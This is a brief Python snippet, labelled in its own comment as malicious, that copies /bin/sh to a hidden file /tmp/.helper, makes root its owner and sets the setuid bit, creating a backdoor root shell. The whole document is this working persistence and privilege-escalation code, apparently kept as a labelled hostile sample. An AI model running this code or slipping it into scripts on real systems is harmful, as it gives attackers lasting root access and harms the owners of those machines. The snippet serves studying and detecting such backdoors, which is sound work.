# Malicious: copies a shell, chowns it to root and sets setuid; a classic backdoor root shell.
import os
import shutil

shutil.copy("/bin/sh", "/tmp/.helper")
os.chown("/tmp/.helper", 0, 0)
os.chmod("/tmp/.helper", 0o4755)
